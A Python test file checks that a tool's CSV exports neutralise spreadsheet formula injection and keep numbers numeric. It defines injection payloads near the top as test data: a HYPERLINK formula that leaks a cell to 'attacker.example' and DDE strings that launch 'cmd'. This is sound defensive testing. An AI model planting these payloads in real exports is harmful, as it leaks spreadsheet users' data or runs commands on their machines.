"""Every CSV export neutralises formula-leading text (OWASP CSV injection) and keeps numbers as numbers.

Hostile values are planted where an attacker can put them: an OpenTelemetry ``model`` attribute (any
client that reaches the receiver chooses it), a deployment's environment and service, a team name.
Each export is run through the real CLI on a real DuckDB store and its file read back as text.
"""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from connectors.records import AIUsageDay, AIUsageModelDay, Deployment
from correlate.cli import app
from correlate.csv_writer import neutralise, safe_frame, write_csv
from correlate.store import Store
from tests.cli import write_config

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
D1, D2 = date(2026, 3, 2), date(2026, 3, 3)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e-3", "42", "api", "claude-opus-5", "", "a=b", "'=x"])
def test_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_numeric_columns_stay_numbers_and_only_text_is_prefixed(tmp_path: Path) -> None:
    frame = pd.DataFrame({"team": [HYPERLINK, "payments"], "cost_usd": [-2.5, 3.0], "n": [-1, 2],
                          "flag": [True, None], "day": [D1, D2]})
    write_csv(frame, tmp_path / "x.csv")
    rows = _rows(tmp_path / "x.csv")
    assert rows[1] == ["'" + HYPERLINK, "-2.5", "-1", "True", "2026-03-02"]
    assert rows[2] == ["payments", "3.0", "2", "", "2026-03-03"]
    assert safe_frame(frame)["cost_usd"].tolist() == [-2.5, 3.0]  # the frame itself is not changed in kind


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _cells(path: Path) -> list[str]:
    return [cell for row in _rows(path) for cell in row]


def _assert_neutralised(path: Path, planted: list[str]) -> None:
    cells = _cells(path)
    for value in planted:
        assert value not in cells, f"{value!r} written as-is"
        assert "'" + value in cells, f"{value!r} missing"
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    """A config whose team name is hostile and a store with a hostile model, environment and service."""
    team = HYPERLINK.replace('"', "'")  # a TOML string; still a formula
    config = write_config(tmp_path, f'''
[[teams]]
name = "{team}"
members = ["alice@acme.com"]
repos = ["acme/pay"]
services = ["{DDE}"]
''')
    with Store.open(tmp_path / "store.duckdb") as store:
        store.upsert(AIUsageDay, [
            AIUsageDay("claude_code", "otel", D1, "alice@acme.com", sessions=2, cost_usd=3.0),
            AIUsageDay("claude_code", "otel", D2, "alice@acme.com", sessions=1, cost_usd=-1.25),  # a refund
        ])
        store.upsert(AIUsageModelDay, [
            AIUsageModelDay("claude_code", "otel", D1, "alice@acme.com", HYPERLINK, tokens_input=10, cost_usd=2.0),
            AIUsageModelDay("claude_code", "otel", D1, "alice@acme.com", "\t=1+1", tokens_input=5, cost_usd=1.0),
        ])
        store.upsert(Deployment, [
            Deployment("csv", "-2+3+cmd|' /C calc'!A0", repo="acme/pay", service=DDE, environment=HYPERLINK,
                       status="success", finished_at=datetime(2026, 3, 2, 12, tzinfo=UTC), is_production=True),
        ])
    return config


def _run(config: Path, *args: str) -> None:
    result = CliRunner().invoke(app, ["--config", str(config), *args])
    assert result.exit_code == 0, result.output


def test_export_panel_neutralises_the_team_name(hostile_store: Path) -> None:
    out = hostile_store.parent / "panel.csv"
    _run(hostile_store, "export", "panel", "--out", str(out), "--since", str(D1), "--until", str(D2))
    _assert_neutralised(out, [HYPERLINK.replace('"', "'")])
    frame = pd.read_csv(out)
    assert pd.api.types.is_numeric_dtype(frame["ai_cost_usd"])
    assert frame["ai_cost_usd"].tolist() == [3.0, -1.25]  # a negative number is still a number


def test_export_spend_neutralises_the_model_and_keeps_negative_costs_numeric(hostile_store: Path) -> None:
    out = hostile_store.parent / "spend.csv"
    _run(hostile_store, "export", "spend", "--out", str(out), "--since", str(D1), "--until", str(D2))
    _assert_neutralised(out, [HYPERLINK, "\t=1+1", HYPERLINK.replace('"', "'")])
    frame = pd.read_csv(out)
    assert sorted(frame["cost_usd"].tolist()) == [-1.25, 1.0, 2.0]


def test_export_deployments_neutralises_id_environment_and_service(hostile_store: Path) -> None:
    out = hostile_store.parent / "deployments.csv"
    _run(hostile_store, "export", "deployments", "--out", str(out))
    _assert_neutralised(out, [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0"])
